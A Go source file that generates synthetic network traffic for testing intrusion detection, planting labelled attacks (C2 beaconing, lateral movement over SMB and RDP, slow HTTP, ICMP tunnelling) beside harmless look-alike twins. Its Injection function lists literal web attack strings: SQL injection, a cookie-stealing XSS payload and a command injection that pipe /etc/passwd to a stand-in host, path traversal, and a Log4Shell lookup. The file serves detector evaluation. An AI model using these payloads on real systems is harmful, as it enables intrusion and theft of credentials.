package scene

import (
	"encoding/base64"
	"fmt"
	"net/netip"
	"net/url"
	"time"
)

// Beacon is how an implant calls.
type Beacon struct {
	Every   time.Duration
	Jitter  float64 // T·(1-U(0,Jitter))
	Size    int     // octets it sends
	CV      float64 // coefficient of variation of Size
	Misses  float64 // share of calls that do not happen
	Calls   int
	Shuffle bool // another fingerprint each time
}

// Call makes an implant call to.
func (w *World) Call(at time.Time, actor netip.Addr, to name, b Beacon) {
	w.plant(Truth{Family: "beacon", Technique: "T1071.001", Actor: actor.String(), Victim: to.addr.String(), Port: 443,
		Params: map[string]any{"every_s": b.Every.Seconds(), "jitter": b.Jitter, "cv": b.CV, "misses": b.Misses, "calls": b.Calls, "shuffled": b.Shuffle, "name": to.host}}, func() {
		for range b.Calls {
			if w.rng.Float64() >= b.Misses {
				who := implant(nil)
				if b.Shuffle {
					who = implant(w.rng)
				}
				w.visit(at, actor, who, to, int64(w.spread(b.Size, b.CV)), int64(w.spread(220, b.CV)))
			}
			at = at.Add(w.jittered(b.Every, b.Jitter))
		}
	})
}

// Poll is the twin: as often on average, without a rhythm.
func (w *World) Poll(at time.Time, c netip.Addr, to name, every time.Duration, calls int) {
	w.plant(Truth{Family: "beacon", Actor: c.String(), Victim: to.addr.String(), Port: 443, Harmless: true, Params: map[string]any{"twin": "Poisson poller", "every_s": every.Seconds(), "calls": calls, "name": to.host}}, func() {
		for range calls {
			w.visit(at, c, tool(), to, 500, 1500)
			at = at.Add(w.exponential(every))
		}
	})
}

// Injection sends requests that carry an attack, encoded in turn by percent
// signs, twice, and not at all.
func (w *World) Injection(at time.Time, actor, victim netip.Addr) {
	attacks := []string{"/item?id=1' OR '1'='1' -- ", "/item?id=1 UNION SELECT user,password FROM users-- ", "/q?s=<script>document.location='//x.example/'+document.cookie</script>",
		"/../../../../etc/passwd", "/cgi?cmd=;cat /etc/passwd|nc x.example 99", "/?x=${jndi:ldap://x.example/a}"}
	w.plant(Truth{Family: "injection", Technique: "T1190", Actor: actor.String(), Victim: victim.String(), Port: 80, Params: map[string]any{"requests": len(attacks)}}, func() {
		for n, a := range attacks {
			path, args, _ := cutQuery(a)
			switch n % 3 {
			case 0:
				args = url.QueryEscape(args)
			case 1:
				args = url.QueryEscape(url.QueryEscape(args))
			default:
				args = url.PathEscape(args)
			}
			if args != "" {
				path += "?" + args
			}
			at = w.http(at, actor, victim, 80, "www.corp.test", path, "Mozilla/5.0", 900).Add(5 * time.Second)
		}
	})
}

func cutQuery(s string) (path, args string, found bool) {
	for i := range s {
		if s[i] == '?' {
			return s[:i], s[i+1:], true
		}
	}
	return s, "", false
}

// Searches is the twin: people who look for words that attacks are made of.
func (w *World) Searches(at time.Time, c, s netip.Addr) {
	words := []string{"how to select users from a union", "or 1 equals 1", "script for a play", "drop table lamp", "O'Brien and sons", "cat videos; dog videos"}
	w.plant(Truth{Family: "injection", Actor: c.String(), Victim: s.String(), Port: 80, Harmless: true, Params: map[string]any{"twin": "encoded search text", "requests": 2 * len(words)}}, func() {
		for _, text := range words {
			at = w.http(at, c, s, 80, "www.corp.test", "/search?q="+url.QueryEscape(text), "Mozilla/5.0", 3000).Add(8 * time.Second)
			at = w.http(at, c, s, 80, "www.corp.test", "/state?v="+url.QueryEscape(base64.StdEncoding.EncodeToString(noise(w.rng, 60))), "Mozilla/5.0", 300).Add(8 * time.Second)
		}
	})
}

// Lateral goes from one host to others by SMB and RDP, where it never was.
func (w *World) Lateral(at time.Time, actor netip.Addr, victims []netip.Addr) {
	list := make([]string, len(victims))
	for i, v := range victims {
		list[i] = v.String()
	}
	w.plant(Truth{Family: "lateral", Technique: "T1021", Actor: actor.String(), Params: map[string]any{"victims": list}}, func() {
		for n, v := range victims {
			if n%3 == 2 {
				t := w.open(at, actor, v, 3389)
				t.ask(rdp("administrator", false), 0)
				t.answer(rdp("", true), 0)
				t.bulk(false, 60000, 2*time.Second)
				t.close()
			} else {
				t := w.open(at, actor, v, 445)
				for k, command := range []uint16{0, 1, 1, 3, 5, 9, 8, 6} {
					t.ask(smb(command, false, 60+k*20), 0)
					t.answer(smb(command, true, 80+k*10), 0)
				}
				t.close()
			}
			at = at.Add(w.between(time.Minute, 4*time.Minute))
		}
	})
}

// Administration is the twin: the same from the host that is there for it.
func (w *World) Administration(at time.Time, jump netip.Addr, hosts []netip.Addr) {
	w.plant(Truth{Family: "lateral", Actor: jump.String(), Harmless: true, Params: map[string]any{"twin": "jump host", "hosts": len(hosts)}}, func() {
		for _, h := range hosts {
			w.ssh(at, jump, h, 22, 1, true, 0, 0, time.Minute)
			at = at.Add(w.between(time.Minute, 4*time.Minute))
		}
	})
}

// SlowHTTP holds many connections open and sends a header line now and then.
func (w *World) SlowHTTP(at time.Time, actor, victim netip.Addr, connections int, lasting time.Duration) {
	w.plant(Truth{Family: "slowhttp", Technique: "T1499.002", Actor: actor.String(), Victim: victim.String(), Port: 80, Params: map[string]any{"connections": connections, "seconds": lasting.Seconds()}}, func() {
		for n := range connections {
			t := w.open(at.Add(time.Duration(n)*100*time.Millisecond), actor, victim, 80)
			t.ask([]byte("GET / HTTP/1.1\r\nHost: www.corp.test\r\n"), 0)
			for end := t.now.Add(lasting); t.now.Before(end); t.wait(15 * time.Second) {
				t.ask([]byte(fmt.Sprintf("X-%d: b\r\n", w.rng.IntN(9999))), 0)
			}
			t.abort()
		}
	})
}

// LongPoll is the twin: many people wait for news on open connections.
func (w *World) LongPoll(at time.Time, s netip.Addr, people int, lasting time.Duration) {
	w.plant(Truth{Family: "slowhttp", Victim: s.String(), Port: 80, Harmless: true, Params: map[string]any{"twin": "long polls", "people": people}}, func() {
		for n := range people {
			t := w.open(at.Add(time.Duration(n)*time.Second), station(n%w.hosts), s, 80)
			for end := t.now.Add(lasting); t.now.Before(end); {
				t.ask(get("chat.corp.test", "/poll", "Mozilla/5.0"), 0)
				t.wait(25 * time.Second)
				t.answer(append(ok(2), "{}"...), 0)
			}
			t.close()
		}
	})
}

// EchoTunnel carries data in echo requests and their answers.
func (w *World) EchoTunnel(at time.Time, actor, peer netip.Addr, n int, gap time.Duration) {
	w.plant(Truth{Family: "icmp_tunnel", Technique: "T1095", Actor: actor.String(), Victim: peer.String(), Params: map[string]any{"packets": 2 * n, "gap_s": gap.Seconds()}}, func() {
		for k := range n {
			w.echo(at, actor, peer, false, 4242, uint16(k), noise(w.rng, 300+w.rng.IntN(900)))
			w.echo(at.Add(20*time.Millisecond), peer, actor, true, 4242, uint16(k), noise(w.rng, 200+w.rng.IntN(900)))
			at = at.Add(w.jittered(gap, 0.3))
		}
	})
}

// Pings is the twin.
func (w *World) Pings(at time.Time, c, peer netip.Addr, n int) {
	w.plant(Truth{Family: "icmp_tunnel", Actor: c.String(), Victim: peer.String(), Harmless: true, Params: map[string]any{"twin": "pings", "packets": 2 * n}}, func() {
		for k := range n {
			w.ping(at, c, peer, uint16(k))
			at = at.Add(time.Second)
		}
	})
}

// Unknown speaks a protocol of its own on a port where another is expected.
func (w *World) Unknown(at time.Time, actor netip.Addr, to name, port uint16, connections int) {
	w.plant(Truth{Family: "unknown", Technique: "T1571", Actor: actor.String(), Victim: to.addr.String(), Port: port, Params: map[string]any{"connections": connections}}, func() {
		for range connections {
			t := w.open(at, actor, to.addr, port)
			for range 12 {
				t.ask(append([]byte{0x17, 0x99, 0xee}, noise(w.rng, 80+w.rng.IntN(200))...), 0)
				t.answer(append([]byte{0x71, 0x99, 0xee}, noise(w.rng, 60+w.rng.IntN(400))...), 0)
				t.wait(w.between(time.Second, 8*time.Second))
			}
			t.close()
			at = at.Add(w.between(2*time.Minute, 5*time.Minute))
		}
	})
}

// Level raises what a host does many times over for some hours.
func (w *World) Level(at time.Time, actor netip.Addr, lasting time.Duration) {
	w.plant(Truth{Family: "level", Technique: "T1071", Actor: actor.String(), Params: map[string]any{"hours": lasting.Hours()}}, func() {
		for end := at.Add(lasting); at.Before(end); at = at.Add(w.exponential(8 * time.Second)) {
			site := w.names[w.rng.IntN(len(w.names))]
			w.visit(at, actor, browser(), site, int64(w.spread(3000, 0.5)), int64(w.spread(400000, 0.5)))
		}
	})
}

// Resumed is the twin of Unknown: sessions that name nobody, but are TLS.
func (w *World) Resumed(at time.Time, c netip.Addr, to name, connections int) {
	w.plant(Truth{Family: "unknown", Actor: c.String(), Harmless: true, Params: map[string]any{"twin": "TLS without a server name"}}, func() {
		for range connections {
			w.tls(at, c, browser(), name{"", to.addr}, 443, 900, 12000, time.Second)
			at = at.Add(w.between(2*time.Minute, 5*time.Minute))
		}
	})
}

// Outage has a server of the office answer nobody for a time.
func (w *World) Outage(at time.Time, victim netip.Addr, lasting time.Duration) {
	w.cut(victim, at, at.Add(lasting))
	w.truths = append(w.truths, Truth{Family: "outage", Technique: "T1499", Victim: victim.String(), Start: at, End: at.Add(lasting), Made: "packets", Params: map[string]any{"hours": lasting.Hours()}})
}

// Maintenance is the twin: it happens at night, when only the monitor asks.
func (w *World) Maintenance(at time.Time, host netip.Addr, lasting time.Duration) {
	w.cut(host, at, at.Add(lasting))
	w.harmless("outage", server(67), at, lasting, "maintenance at night")
}

// Newcomer is a host that never was there, offering what never was offered.
func (w *World) Newcomer(at time.Time, actor netip.Addr) {
	w.plant(Truth{Family: "newhost", Technique: "T1078", Actor: actor.String(), Params: map[string]any{}}, func() {
		for n := range 6 {
			w.visit(at.Add(time.Duration(n)*7*time.Minute), actor, tool(), w.names[n], 900, 9000)
			w.http(at.Add(time.Duration(n)*11*time.Minute), station(n%w.hosts), actor, 8000, "", "/", "curl/8.5", 5000)
		}
	})
}

// Moved is the twin: a card that is known, with another address than before.
func (w *World) Moved(at time.Time, before, now netip.Addr) {
	w.plant(Truth{Family: "newhost", Actor: now.String(), Harmless: true, Params: map[string]any{"twin": "another lease", "before": before.String()}}, func() {
		w.moved[now] = before
		w.whoHas(at, now, server(1))
		for n := range 6 {
			w.visit(at.Add(time.Duration(n)*7*time.Minute), now, browser(), w.names[n], 900, 9000)
		}
	})
}
